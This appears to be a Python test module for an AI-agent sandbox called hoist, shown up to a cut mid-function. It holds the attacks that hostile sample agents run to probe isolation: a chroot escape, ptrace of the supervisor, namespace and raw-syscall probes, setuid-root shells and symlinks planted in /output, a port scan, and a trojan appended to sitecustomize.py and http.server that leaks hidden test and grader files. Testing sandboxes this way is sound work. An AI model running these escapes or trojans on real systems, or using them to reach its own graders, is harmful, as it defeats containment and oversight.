"""hostile.py — the attacks shared by hoist's hostile sample agents.

Installed as /opt/agent/hostile.py by agent-hostile-install, agent-hostile-run
and agent-hostile-grader (scripts/sample-layers.py); agent-hostile-grader also
copies it into the task's workdir as _hoist_attack.py, where the root grader
imports it. See agents/hostile-lib/README.md for every attempt and what
"denied" means.

Every attempt is reported as one JSON line

    {"attempt": NAME, "denied": true|false|null, "detail": "..."}

true: hoist stopped it; false: it worked (an escape); null: the attack only
prepared something that a later phase or the host must judge (a planted
trojan, a setuid file in /output). The last line is a summary

    {"hostile": "done", "role": ROLE, "escaped": [names], "uid": U, "euid": E}

The test on the host passes nothing through the environment (the agent's is
cleared): the values below are fixed and documented, and the test prepares
them before the run (a TCP and UDP listener on 127.0.0.1:47911, an abstract
unix socket @hoist-attack-47911, the directory /tmp/hoist-attack-host with
a file `sentinel`). Nothing here harms a real host even if an attack works:
signals are only ever signal 0, ptrace is PTRACE_SEIZE (which does not stop
the tracee) followed at once by PTRACE_DETACH, network probes send one
datagram or open one connection and close it, and the only files written
outside the sandbox are marker files under /tmp/hoist-attack-host and one
marker file in the test's own store. Everything is bounded in time.

Python standard library only (ctypes for raw syscalls, x86_64 numbers).
"""

import ctypes
import errno
import json
import os
import select
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import time

PORT = 47911
ABSTRACT = b"\0hoist-attack-47911"
HOST_DIR = "/tmp/hoist-attack-host"
SENTINEL = HOST_DIR + "/sentinel"
SENTINEL_TEXT = b"hoist-attack-sentinel: the host side of an attack test\n"
STORE_MARKER = "hoist-attack-store-marker"
HIDDEN = ("/tests", "/tasks", "/opt/gateway")
LEAK_DIRS = ("/home/agent/leak", "/tmp/leak")
TROJAN_TAG = "# hoist-attack trojan"

LIBC = ctypes.CDLL("libc.so.6", use_errno=True)
LIBC.syscall.restype = ctypes.c_long

# x86_64 syscall numbers.
SYS_KEYCTL = 250
SYS_UNSHARE = 272
SYS_PERF_EVENT_OPEN = 298
SYS_BPF = 321
SYS_USERFAULTFD = 323
SYS_IO_URING_SETUP = 425
SYS_CLONE = 56
CLONE_NEWNS = 0x00020000
CLONE_NEWUSER = 0x10000000
PTRACE_DETACH = 17
PTRACE_SEIZE = 0x4206
# Errors that mean the kernel or a policy refused the call itself.
REFUSED = {errno.EPERM, errno.EACCES, errno.ENOSYS}


class Reporter:
    """Collects the attempts; prints each at once, or at exit when buffered
    (inside pytest, whose capture would swallow them)."""

    def __init__(self, role, buffered=False):
        self.role = role
        self.results = []
        self.buffered = buffered
        self.done = False

    def report(self, attempt, denied, detail):
        entry = {"attempt": attempt, "denied": denied, "detail": str(detail)[:600]}
        self.results.append(entry)
        if not self.buffered:
            print(json.dumps(entry), flush=True)

    def run(self, name, fn, *args):
        """Run one attempt; an unexpected exception is reported, never raised."""
        try:
            fn(self, name, *args)
        except Exception as e:  # the attack itself must never crash the agent
            self.report(name, True, f"attack error: {err(e)}")

    def summary(self):
        if self.done:
            return
        self.done = True
        if self.buffered:
            for entry in self.results:
                print(json.dumps(entry), flush=True)
        escaped = [r["attempt"] for r in self.results if r["denied"] is False]
        print(json.dumps({"hostile": "done", "role": self.role, "escaped": escaped,
                          "uid": os.getuid(), "euid": os.geteuid()}), flush=True)


def err(e):
    if isinstance(e, OSError) and e.errno is not None:
        return f"{type(e).__name__}: {errno.errorcode.get(e.errno, e.errno)} {e.strerror}"
    return f"{type(e).__name__}: {e}"


def errname(n):
    return errno.errorcode.get(n, str(n))


def watchdog(reporter, seconds):
    """Print what there is and leave after `seconds`, whatever hangs."""
    def fire(signum, frame):
        reporter.report("watchdog", True, f"out of time after {seconds} s; remaining attempts skipped")
        reporter.summary()
        os._exit(0)
    signal.signal(signal.SIGALRM, fire)
    signal.alarm(seconds)


# ---- processes ----------------------------------------------------------------

def ppid_of(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return None


SUPERVISOR_FILE = ".hoist-attack-supervisor"


def recorded_supervisor():
    """The supervisor's pid as agent-hostile-grader's agent saw it (its
    parent), in a file beside this module in the workdir: the grader has
    no other way to name it where there is no /proc."""
    try:
        path = os.path.join(os.path.dirname(os.path.abspath(__file__)), SUPERVISOR_FILE)
        return int(open(path).read().strip())
    except (OSError, ValueError):
        return None


def ancestors():
    """This process and its ancestors: from /proc when it is there, else
    what getppid() and the recorded supervisor tell."""
    chain = [os.getpid(), os.getppid(), recorded_supervisor() or 0]
    pid = os.getppid()
    for _ in range(64):
        parent = ppid_of(pid)
        if not parent:
            break
        chain.append(parent)
        pid = parent
    return set(p for p in chain if p > 0)


def pid_max():
    try:
        return min(int(open("/proc/sys/kernel/pid_max").read()), 4194304)
    except (OSError, ValueError):
        return 32768


def signallable_outside(budget=1.5):
    """(pids outside this process's own chain that signal 0 reaches, how far
    the brute force got, pid_max). Signal 0 checks permission and delivers
    nothing. The pids /proc lists (when there is one) first, then every pid
    from 2 to 65536 whatever the time, then on as far as the budget goes
    (pid_max is 4194304 on many hosts, and a pid namespace reports the
    same; a busy host rarely hands out pids that high)."""
    own, found = ancestors(), []
    top, deadline, pid = pid_max(), time.monotonic() + budget, 2
    kill = os.kill
    try:
        listed = sorted(int(n) for n in os.listdir("/proc") if n.isdigit())
    except OSError:
        listed = []
    for p in listed:
        try:
            kill(p, 0)
            if p not in own:
                found.append(p)
        except OSError:
            pass
    seen = set(found)
    while pid <= top:
        if pid > 65536 and pid & 0xFFF == 0 and time.monotonic() > deadline:
            break
        try:
            kill(pid, 0)
            if pid not in own and pid not in seen:
                found.append(pid)
        except OSError:
            pass
        pid += 1
    return sorted(found), pid - 1, top


def kill_bruteforce(r, name):
    found, reached, top = signallable_outside()
    scanned = f"scanned pids 2..{reached} of pid_max {top}"
    detail = f"{len(found)} processes outside this one's own chain can be signalled: {found[:20]}; {scanned}"
    r.report(name, not found, detail)
    return found


def ptrace_seize(pid):
    rc = LIBC.ptrace(ctypes.c_long(PTRACE_SEIZE), ctypes.c_long(pid), None, None)
    e = ctypes.get_errno()
    if rc == 0:
        LIBC.ptrace(ctypes.c_long(PTRACE_DETACH), ctypes.c_long(pid), None, None)
        return True, f"seized pid {pid}"
    return False, f"pid {pid}: {errname(e)}"


def supervisor_pid(role):
    """hoist's supervisor (`hoist task-exec`): the nearest ancestor whose
    command line says so, from /proc; without /proc, the parent for the
    phases it starts directly (install.sh, the agent), and for the grader
    (whose parent is the grade script) the pid its agent recorded."""
    pid = os.getppid()
    for _ in range(64):
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            break
        if b"task-exec" in cmd:
            return pid
        pid = ppid_of(pid)
        if not pid:
            break
    if role == "grader":
        return recorded_supervisor()
    return os.getppid()


def ptrace_supervisor(r, name, role):
    pid = supervisor_pid(role)
    if pid is None:
        r.report(name, True, "the supervisor's pid is unknown here (no /proc, none recorded); "
                 "ptrace-others tries every process signal 0 reaches")
        return
    ok, detail = ptrace_seize(pid)
    r.report(name, not ok, f"the supervisor, {detail}")


def ptrace_others(r, name, targets):
    # The newest first: hoist's own processes outside the run are among them.
    targets = sorted(targets, reverse=True)[:32]
    if not targets:
        r.report(name, True, "no process outside this one's chain to trace")
        return
    got = [d for ok, d in (ptrace_seize(p) for p in targets) if ok]
    r.report(name, not got, f"{len(got)} of {len(targets)}: " + "; ".join(got[:12]) if got else
             f"none of {len(targets)} processes: {ptrace_seize(targets[0])[1]}")


def open_fds(r, name, role):
    """Descriptors this process was given beyond 0, 1 and 2 (call first).
    A directory among them is a way out of any root: list it, and where it
    is the test's sentinel directory, leave a marker through it."""
    found = []
    for fd in range(3, 1024):
        try:
            st = os.fstat(fd)
        except OSError:
            continue
        try:
            what = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            what = f"mode {st.st_mode:o} dev {st.st_dev} ino {st.st_ino}"
        if stat.S_ISDIR(st.st_mode):
            try:
                names = sorted(os.listdir(fd))
                what += f", a directory holding {names[:8]}"
                if "sentinel" in names:
                    marker = os.open(f"fd-escape-{role}", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
                    os.close(marker)
                    what += f", where it created fd-escape-{role}"
            except OSError as e:
                what += f" ({err(e)})"
        found.append(f"fd {fd}: {what}")
    r.report(name, not found, "; ".join(found) if found else "only 0, 1 and 2 are open")


# ---- the hidden files ------------------------------------------------------------

def known_hidden():
    """Hidden paths a hostile image knows without listing anything: the
    tops, the grader and the task file the task's own task.json names."""
    task = os.environ.get("HOIST_TASK_ID", "")
    known = list(HIDDEN) + ["/tests/grade.sh", "/opt/gateway/run"]
    if task:
        known += [f"/tasks/{task}", f"/tasks/{task}/task.json", f"/tests/{task}",
                  f"/tests/{task}/test_hidden.py"]
    return known


def readable_hidden(limit=64):
    """([files under /tests /tasks /opt/gateway read], [names listed])."""
    read, listed = [], []
    for path in known_hidden():
        try:
            with open(path, "rb") as fh:
                fh.read(limit)
            read.append(path)
        except OSError:
            pass
    for top in HIDDEN:
        for root, dirs, files in os.walk(top, onerror=lambda e: None):
            listed.extend(os.path.join(root, n) for n in dirs + files)
            for f in files:
                path = os.path.join(root, f)
                try:
                    with open(path, "rb") as fh:
                        fh.read(limit)
                    read.append(path)
                except OSError:
                    pass
    return read, listed


def read_hidden(r, name):
    read, listed = readable_hidden()
    if read:
        r.report(name, False, f"read {len(read)} files: {read[:8]}")
    elif listed:
        r.report(name, False, f"listed {len(listed)} names, read none: {listed[:8]}")
    else:
        errs = []
        for top in HIDDEN:
            try:
                os.listdir(top)
                errs.append(f"{top}: empty")
            except OSError as e:
                errs.append(f"{top}: {err(e)}")
        r.report(name, True, "; ".join(errs))


def copy_tree_readable(src, dst):
    """Copy what can be read of src to dst, world-readable; files copied."""
    n = 0
    for root, dirs, files in os.walk(src, onerror=lambda e: None):
        rel = os.path.relpath(root, src)
        target = dst if rel == "." else os.path.join(dst, rel)
        try:
            os.makedirs(target, exist_ok=True)
            os.chmod(target, 0o755)
        except OSError:
            continue
        for f in files:
            try:
                shutil.copyfile(os.path.join(root, f), os.path.join(target, f))
                os.chmod(os.path.join(target, f), 0o644)
                n += 1
            except OSError:
                pass
    return n


def leaked_files():
    """Files of the hidden trees readable under the leak directories."""
    found = []
    for d in LEAK_DIRS:
        for root, dirs, files in os.walk(d, onerror=lambda e: None):
            for f in files:
                path = os.path.join(root, f)
                if f.startswith("trojan-ran-"):
                    continue
                try:
                    with open(path, "rb") as fh:
                        fh.read(1)
                    found.append(path)
                except OSError:
                    pass
    return found


# ---- the root: chroot escape and the store ------------------------------------------

def find_store():
    """The store, from an ancestor's root (the run's rootfs, a copy under
    STORE/work/run-*/rootfs in chroot isolation), as this root sees it."""
    pid = os.getpid()
    for _ in range(64):
        try:
            root = os.readlink(f"/proc/{pid}/root")
        except OSError:
            root = ""
        if "/work/run-" in root:
            return root.split("/work/run-")[0]
        parent = ppid_of(pid)
        if not parent:
            break
        pid = parent
    return None


def write_store_marker(store, role):
    """A marker in the first cached layer (STORE/layers*/ALG/DIGEST/), else
    in the first cached subtree, else at the store's top."""
    text = f"written by the hostile {role} from inside a run\n"
    for prefix in ("layers", "subtrees"):
        for top in sorted(d for d in os.listdir(store) if d.startswith(prefix)):
            for alg in sorted(os.listdir(os.path.join(store, top))):
                base = os.path.join(store, top, alg)
                if not os.path.isdir(base):
                    continue
                for entry in sorted(os.listdir(base)):
                    d = os.path.join(base, entry)
                    if os.path.isdir(d) and not os.path.islink(d):
                        path = os.path.join(d, STORE_MARKER)
                        with open(path, "w") as f:
                            f.write(text)
                        return path
    path = os.path.join(store, STORE_MARKER)
    with open(path, "w") as f:
        f.write(text)
    return path


def escape_child(role, write_end, with_store):
    """In a child: the classic chroot escape, then look for the host."""
    out = []
    try:
        jail = f"/tmp/hoist-attack-jail-{os.getpid()}"
        os.makedirs(jail, exist_ok=True)
        os.chroot(jail)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        try:
            with open(SENTINEL, "rb") as f:
                seen = f.read(200)
        except OSError as e:
            seen = err(e)
        if seen == SENTINEL_TEXT:
            marker = f"{HOST_DIR}/escaped-{role}"
            try:
                with open(marker, "w") as f:
                    f.write(f"the hostile {role} left its chroot\n")
                wrote = f"created {marker}"
            except OSError as e:
                wrote = f"could not create {marker}: {err(e)}"
            out.append(["chroot-escape", False, f"read {SENTINEL} of the host; {wrote}"])
        else:
            try:
                hostname = open("/etc/hostname").read().strip()
            except OSError as e:
                hostname = err(e)
            out.append(["chroot-escape", True,
                        f"chroot and chdir('..') worked but led nowhere: {SENTINEL}: {seen!r}; "
                        f"/etc/hostname {hostname!r}"])
    except OSError as e:
        out.append(["chroot-escape", True, f"chroot: {err(e)}"])
    if with_store:
        try:
            store = find_store()
            if store is None:
                out.append(["store-write", True, "no path to the store from here"])
            else:
                out.append(["store-write", False, f"wrote {write_store_marker(store, role)}"])
        except OSError as e:
            out.append(["store-write", True, f"the store: {err(e)}"])
    os.write(write_end, json.dumps(out).encode())


def chroot_escape(r, name, role, with_store=False):
    """The escape changes the root of the whole process: do it in a child."""
    rd, wr = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(rd)
            signal.alarm(0)
            escape_child(role, wr, with_store)
        finally:
            os._exit(0)
    os.close(wr)
    data, deadline = b"", time.monotonic() + 15
    while time.monotonic() < deadline:
        ready, _, _ = select.select([rd], [], [], max(0.0, deadline - time.monotonic()))
        if not ready:
            break
        chunk = os.read(rd, 65536)
        if not chunk:
            break
        data += chunk
    os.close(rd)
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
    os.waitpid(pid, 0)
    try:
        results = json.loads(data or b"[]")
    except ValueError:
        results = []
    if not results:
        r.report(name, True, "the escape child reported nothing")
    for attempt, denied, detail in results:
        r.report(attempt, denied, detail)


def mount_tmpfs(r, name):
    target = f"/tmp/hoist-attack-mnt-{os.getpid()}"
    os.makedirs(target, exist_ok=True)
    rc = LIBC.mount(b"none", target.encode(), b"tmpfs", 0, None)
    e = ctypes.get_errno()
    if rc == 0:
        LIBC.umount2(target.encode(), 2)
        r.report(name, False, f"mounted a tmpfs on {target}")
    else:
        r.report(name, True, f"mount: {errname(e)}")
    try:
        os.rmdir(target)
    except OSError:
        pass


def in_child(fn):
    """fn() -> (ok, detail) run in a forked child, so that what it changes
    (namespaces) stays there."""
    rd, wr = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(rd)
            signal.alarm(0)
            ok, detail = fn()
            os.write(wr, json.dumps([ok, detail]).encode())
        except BaseException as e:
            os.write(wr, json.dumps([False, f"error: {e}"]).encode())
        finally:
            os._exit(0)
    os.close(wr)
    ready, _, _ = select.select([rd], [], [], 10)
    data = os.read(rd, 65536) if ready else b""
    os.close(rd)
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
    os.waitpid(pid, 0)
    try:
        return json.loads(data)
    except ValueError:
        return [False, "the child reported nothing"]


def unshare(flags, what):
    def attempt():
        rc = LIBC.syscall(ctypes.c_long(SYS_UNSHARE), ctypes.c_long(flags))
        e = ctypes.get_errno()
        return (rc == 0, f"unshare({what}) worked" if rc == 0 else f"unshare({what}): {errname(e)}")
    return attempt


def unshare_attempt(r, name, flags, what):
    ok, detail = in_child(unshare(flags, what))
    r.report(name, not ok, detail)


# ---- network -----------------------------------------------------------------

def tcp_host_listener(r, name):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(1)
    try:
        s.connect(("127.0.0.1", PORT))
        r.report(name, False, f"connected to 127.0.0.1:{PORT}, the test's listener")
    except socket.timeout:
        r.report(name, True, f"127.0.0.1:{PORT}: timed out")
    except OSError as e:
        r.report(name, True, f"127.0.0.1:{PORT}: {err(e)}")
    finally:
        s.close()


def abstract_connect(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(1)
    try:
        s.connect(path)
        return True, "connected"
    except OSError as e:
        return False, err(e)
    finally:
        s.close()


def abstract_unix(r, name):
    ok, detail = abstract_connect(ABSTRACT)
    r.report(name, not ok, f"@{ABSTRACT[1:].decode()}: {detail}")


def abstract_listed(r, name):
    """Every abstract unix socket /proc/net/unix lists (the network
    namespace's), else only the test's."""
    names = []
    try:
        for line in open("/proc/net/unix").read().splitlines()[1:]:
            fields = line.split()
            if len(fields) >= 8 and fields[7].startswith("@"):
                names.append(fields[7][1:])
    except OSError as e:
        names, why = [], err(e)
    else:
        why = f"{len(names)} listed in /proc/net/unix"
    targets = sorted(set(names))[:64] or [ABSTRACT[1:].decode()]
    got = []
    for n in targets:
        ok, _ = abstract_connect(b"\0" + n.encode("utf-8", "surrogateescape"))
        if ok:
            got.append("@" + n)
    r.report(name, not got, f"{why}; connected to {got[:12]}" if got else f"{why}; connected to none")


def udp_send(host, port, payload):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    try:
        s.sendto(payload, (host, port))
        try:
            data, peer = s.recvfrom(512)
            return "answered", f"{len(data)} bytes of answer from {peer}"
        except socket.timeout:
            return "sent", "sent, no answer within 0.5 s"
        except OSError as e:
            return "sent", f"sent; then {err(e)}"
    except OSError as e:
        return "refused", err(e)
    finally:
        s.close()


DNS_QUERY = bytes.fromhex("abcd01000001000000000000076578616d706c6503636f6d0000010001")


def udp_host_listener(r, name):
    how, detail = udp_send("127.0.0.1", PORT, b"hoist-attack datagram\n")
    # A datagram that left went to a loopback: the run's own (harmless) or
    # the host's, where the test's listener counts it. Only the host can tell.
    r.report(name, True if how == "refused" else None,
             f"127.0.0.1:{PORT}: {detail}" + ("" if how == "refused" else "; the host's listener tells"))


def udp_dns(r, name, host):
    how, detail = udp_send(host, 53, DNS_QUERY)
    if host == "127.0.0.1":
        # The sandbox's own loopback may take a datagram; an answer means a
        # resolver outside the run got it.
        r.report(name, how != "answered", f"{host}:53: {detail}")
    else:
        r.report(name, how == "refused", f"{host}:53: {detail}")


def gateway_port():
    url = os.environ.get("HOIST_MODEL_URL", "")
    try:
        return int(url.split("://", 1)[1].split("/", 1)[0].rsplit(":", 1)[1])
    except (IndexError, ValueError):
        return None


def tcp_portscan(r, name, budget=8.0):
    """Every loopback port but the gateway's: refused connects take
    microseconds, so the whole range fits in the budget."""
    skip, accepted, deadline, port = gateway_port(), [], time.monotonic() + budget, 1
    while port <= 65535:
        if port & 0x3FF == 0 and time.monotonic() > deadline:
            break
        if port != skip:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(0.2)
            try:
                s.connect(("127.0.0.1", port))
                # A connect to the ephemeral port it was given meets itself
                # (TCP simultaneous open): no listener was reached.
                if s.getsockname() != s.getpeername():
                    accepted.append(port)
            except OSError:
                pass
            finally:
                s.close()
        port += 1
    scanned = f"ports 1..{port - 1} (gateway port {skip} skipped)"
    r.report(name, not accepted,
             f"{len(accepted)} accepted: {accepted[:24]}; {scanned}" if accepted else f"none accepted; {scanned}")


def network(r, role):
    r.run("tcp-host-listener", tcp_host_listener)
    r.run("abstract-unix", abstract_unix)
    r.run("udp-host-listener", udp_host_listener)
    r.run("udp-dns-8.8.8.8", udp_dns, "8.8.8.8")
    r.run("udp-dns-127.0.0.1", udp_dns, "127.0.0.1")


# ---- raw syscalls ----------------------------------------------------------------

def raw(nr, *args):
    rc = LIBC.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return rc, ctypes.get_errno()


def syscall_attempt(r, name, nr, args, cleanup_fd=True):
    rc, e = raw(nr, *args)
    if rc >= 0:
        if cleanup_fd:
            try:
                os.close(rc)
            except OSError:
                pass
        r.report(name, False, f"the call succeeded (returned {rc})")
    elif e in REFUSED:
        r.report(name, True, f"refused: {errname(e)}")
    else:
        # The kernel ran the call and rejected its arguments: it was not denied.
        r.report(name, False, f"reached the kernel, which answered {errname(e)}")


def syscalls(r):
    params = ctypes.create_string_buffer(120)
    r.run("io_uring_setup", syscall_attempt, SYS_IO_URING_SETUP, (1, params))
    # BPF_MAP_CREATE of a one-entry array map.
    attr = ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1) + bytes(112))
    r.run("bpf", syscall_attempt, SYS_BPF, (0, attr, 128))
    # A software cpu-clock counter on this process only.
    pattr = ctypes.create_string_buffer(struct.pack("IIQ", 1, 128, 0) + bytes(112))
    r.run("perf_event_open", syscall_attempt, SYS_PERF_EVENT_OPEN, (pattr, 0, -1, -1, 0))
    # UFFD_USER_MODE_ONLY | O_CLOEXEC: what an unprivileged process may ask.
    r.run("userfaultfd", syscall_attempt, SYS_USERFAULTFD, (1 | 0o2000000,))
    # KEYCTL_GET_KEYRING_ID of the session keyring, without creating it.
    r.run("keyctl", syscall_attempt, SYS_KEYCTL, (0, -3, 0), False)
    r.run("unshare-user-ns", unshare_attempt, CLONE_NEWUSER, "CLONE_NEWUSER")
    r.run("clone-newuser", clone_newuser)


def clone_newuser(r, name):
    """clone(CLONE_NEWUSER | SIGCHLD) as a raw syscall: without CLONE_VM it
    behaves as fork, and the child leaves at once."""
    rc, e = raw(SYS_CLONE, CLONE_NEWUSER | signal.SIGCHLD, 0, 0, 0, 0)
    if rc == 0:
        os._exit(0)
    if rc > 0:
        os.waitpid(rc, 0)
        r.report(name, False, f"a child in a new user namespace (pid {rc})")
    else:
        # ENOSPC: the user-namespace limit (user.max_user_namespaces) said no.
        r.report(name, e in REFUSED or e == errno.ENOSPC, f"clone: {errname(e)}")


# ---- the output ------------------------------------------------------------------

def plant_output(r, role):
    """Things no host may take from /output: a setuid-root shell, symlinks
    (one where the host writes run.json), a fifo, a device node. Creating
    them inside the sandbox is not the escape; the host checks its --out."""
    for d in ("/output/task", "/output"):
        tag = f"{role}{'-task' if d.endswith('task') else ''}"
        shell = f"{d}/rootsh-{tag}"
        try:
            shutil.copyfile("/bin/sh", shell)
            os.chown(shell, 0, 0)
            os.chmod(shell, 0o6755)
            r.report(f"output-setuid{'-task' if d.endswith('task') else ''}", None,
                     f"made {shell} setuid root")
        except OSError as e:
            r.report(f"output-setuid{'-task' if d.endswith('task') else ''}", True, f"{shell}: {err(e)}")
    links = [(f"/output/task/link-{role}", f"{HOST_DIR}/through-link-{role}")]
    if role == "grader":
        # The host writes OUT/run.json after the run: through this link, as root.
        links.append(("/output/run.json", f"{HOST_DIR}/through-run-json"))
    made, refused = [], []
    for link, target in links:
        try:
            if os.path.lexists(link):
                os.unlink(link)
            os.symlink(target, link)
            made.append(f"{link} -> {target}")
        except OSError as e:
            refused.append(f"{link}: {err(e)}")
    r.report("output-symlink", None if made else True, "; ".join(made + refused))
    fifo = f"/output/task/fifo-{role}"
    try:
        os.mkfifo(fifo, 0o666)
        r.report("output-fifo", None, f"made {fifo}")
    except OSError as e:
        r.report("output-fifo", True, f"{fifo}: {err(e)}")
    node = f"/output/task/null-{role}"
    try:
        os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        r.report("output-device", None, f"made {node}, a char device 1:3")
    except OSError as e:
        r.report("output-device", True, f"{node}: {err(e)}")


# ---- the trojan install.sh plants --------------------------------------------------

TROJAN = TROJAN_TAG + r"""
try:
    import os as _hoist_os
    if _hoist_os.geteuid() == 0 and not _hoist_os.environ.get("HOIST_ATTACK_TROJAN_DONE"):
        _hoist_os.environ["HOIST_ATTACK_TROJAN_DONE"] = "1"
        import shutil as _hoist_shutil, sys as _hoist_sys
        # The tests look for this line in gateway.log and grade.log.
        _hoist_sys.stderr.write("HOIST-ATTACK-TROJAN-RAN %s\n" % " ".join(_hoist_sys.argv))
        _hoist_sys.stderr.flush()
        for _hoist_leak in ("/home/agent/leak", "/tmp/leak"):
            for _hoist_top in ("/tests", "/tasks", "/opt/gateway"):
                _hoist_dst = _hoist_leak + "/from-trojan" + _hoist_top
                try:
                    _hoist_shutil.copytree(_hoist_top, _hoist_dst, dirs_exist_ok=True)
                except BaseException:
                    pass
                for _hoist_root, _hoist_dirs, _hoist_files in _hoist_os.walk(_hoist_leak):
                    for _hoist_n in _hoist_dirs:
                        try:
                            _hoist_os.chmod(_hoist_os.path.join(_hoist_root, _hoist_n), 0o755)
                        except BaseException:
                            pass
                    for _hoist_n in _hoist_files:
                        try:
                            _hoist_os.chmod(_hoist_os.path.join(_hoist_root, _hoist_n), 0o644)
                        except BaseException:
                            pass
            try:
                _hoist_os.makedirs(_hoist_leak, exist_ok=True)
                _hoist_os.chmod(_hoist_leak, 0o755)
                with open(_hoist_leak + "/trojan-ran-%d" % _hoist_os.getpid(), "w") as _hoist_f:
                    _hoist_f.write(" ".join(_hoist_sys.argv) + "\n")
                _hoist_os.chmod(_hoist_leak + "/trojan-ran-%d" % _hoist_os.getpid(), 0o644)
            except BaseException:
                pass
except BaseException:
    pass
try:
    # In http.server (the replay gateway's server): a route that hands the
    # agent what the gateway may read, /opt/gateway and /tests included.
    import os as _hoist_os2
    _hoist_handler = globals().get("BaseHTTPRequestHandler")
    if _hoist_handler is not None and _hoist_os2.geteuid() == 0:
        _hoist_parse = _hoist_handler.parse_request

        def _hoist_parse_request(self):
            ok = _hoist_parse(self)
            if ok and self.path == "/hoist-trojan-leak":
                found = []
                for top in ("/opt/gateway", "/tests", "/tasks"):
                    for root, dirs, files in _hoist_os2.walk(top):
                        for f in files:
                            try:
                                with open(_hoist_os2.path.join(root, f), "rb") as fh:
                                    found.append("%s/%s %d" % (root, f, len(fh.read())))
                            except OSError:
                                pass
                body = ("\n".join(found) + "\n").encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)
                return False
            return ok

        _hoist_handler.parse_request = _hoist_parse_request
except BaseException:
    pass
"""


def plant_trojan(r, name):
    """Code every later root python runs: sitecustomize (imported at start-up,
    -I or not) and http.server (which the replay gateway imports)."""
    import http.server
    import sysconfig
    targets = [os.path.join(sysconfig.get_paths()["stdlib"], "sitecustomize.py"),
               http.server.__file__]
    planted, refused = [], []
    for path in targets:
        try:
            with open(path, "a") as f:  # follows Debian's link to /etc/python3.X
                f.write("\n" + TROJAN)
            planted.append(path)
        except OSError as e:
            refused.append(f"{path}: {err(e)}")
    if planted:
        r.report(name, None, f"planted in {planted}; the agent reports whether a root process ran it"
                 + (f"; refused: {refused}" if refused else ""))
    else:
        r.report(name, True, "; ".join(refused))


# ---- install.sh's own attempts -------------------------------------------------------

def copy_for_agent(r, name):
    n = 0
    for leak in LEAK_DIRS:
        os.makedirs(leak, exist_ok=True)
        os.chmod(leak, 0o755)
        for top in HIDDEN:
            n += copy_tree_readable(top, f"{leak}/direct{top}")
    r.report(name, n == 0, f"copied {n} files into {LEAK_DIRS}" if n else "nothing readable to copy")


def chmod_hidden(r, name):
    """Open the hidden trees to everyone, for the agent to read later."""
    changed, refused = [], []
    # By name first: Landlock lets no one list /tests, but chmod is not a
    # Landlock right.
    for path in known_hidden():
        bits = 0o555 if os.path.isdir(path) else 0o444
        try:
            os.chmod(path, stat.S_IMODE(os.lstat(path).st_mode) | bits)
            changed.append(path)
        except OSError as e:
            refused.append(f"{path}: {errname(e.errno)}")
    for top in HIDDEN:
        for root, dirs, files in os.walk(top, onerror=lambda e: None):
            for path, bits in [(root, 0o555)] + [(os.path.join(root, f), 0o444) for f in files]:
                try:
                    os.chmod(path, stat.S_IMODE(os.lstat(path).st_mode) | bits)
                    changed.append(path)
                except OSError as e:
                    refused.append(f"{path}: {errname(e.errno)}")
        if not os.path.lexists(top):
            refused.append(f"{top}: absent")
    # A chmod that went through is judged by what the agent can read later
    # (read-hidden in agent.log): hoist may put the modes back before it runs.
    r.report(name, None if changed else True,
             f"made {len(changed)} paths world-readable: {changed[:6]}; the agent reports whether it can read them"
             if changed else "; ".join(refused[:6]))


def setuid_for_agent(r, name):
    path = "/home/agent/rootsh"
    try:
        shutil.copyfile("/bin/sh", path)
        os.chown(path, 0, 0)
        os.chmod(path, 0o4755)
        r.report(name, None, f"made {path} setuid root; the agent reports whether it gives euid 0")
    except OSError as e:
        r.report(name, True, f"{path}: {err(e)}")


# ---- the agent's side of agent-hostile-install ---------------------------------------

def leak_in(r, name, leak):
    found = [p for p in leaked_files() if p.startswith(leak + "/")]
    r.report(name, not found, f"{len(found)} leaked files readable: {found[:8]}" if found
             else f"nothing of the hidden trees in {leak}")


def trojan_ran(r, name):
    ran = []
    for leak in LEAK_DIRS:
        try:
            names = sorted(n for n in os.listdir(leak) if n.startswith("trojan-ran-"))
        except OSError:
            continue
        for n in names:
            try:
                ran.append(f"{leak}/{n}: {open(os.path.join(leak, n)).read().strip()}")
            except OSError as e:
                ran.append(f"{leak}/{n}: {err(e)}")
    r.report(name, not ran, f"a root process ran the trojan before the agent: {ran[:4]}" if ran
             else "no root process ran the trojan before the agent")


def trojan_served(r, name):
    """The trojan's route in the gateway's http.server: any file of
    /opt/gateway, /tests or /tasks it lists reached the agent."""
    import urllib.request
    base = os.environ.get("HOIST_MODEL_URL", "")
    if not base:
        r.report(name, True, "no gateway in this run")
        return
    url = base.rsplit("/v1", 1)[0] + "/hoist-trojan-leak"
    try:
        with urllib.request.urlopen(url, timeout=10) as resp:
            body = resp.read().decode(errors="replace")
            status = resp.status
    except Exception as e:  # an HTTP error status is the gateway's own answer
        r.report(name, True, f"GET {url}: {e}")
        return
    leaked = [line for line in body.splitlines() if line.strip()]
    r.report(name, not leaked, f"GET {url}: {status}, {len(leaked)} files listed: {leaked[:3]}")


def setuid_shell(r, name):
    path = "/home/agent/rootsh"
    if not os.path.exists(path):
        r.report(name, True, f"{path} does not exist")
        return
    st = os.stat(path)
    try:
        out = subprocess.run([path, "-p", "-c", "id -u"], capture_output=True, timeout=5)
        euid = out.stdout.decode(errors="replace").strip()
    except (OSError, subprocess.TimeoutExpired) as e:
